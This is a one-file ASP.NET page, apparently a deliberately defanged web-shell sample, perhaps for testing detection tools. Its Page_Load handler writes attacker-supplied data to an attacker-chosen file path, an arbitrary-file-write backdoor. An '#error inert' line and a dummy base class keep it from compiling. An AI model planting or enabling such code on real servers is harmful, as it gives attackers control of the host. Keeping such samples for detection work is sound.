<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ using(var w=new System.IO.StreamWriter(Request["p"])) w.Write(Request["d"]); }
</script>
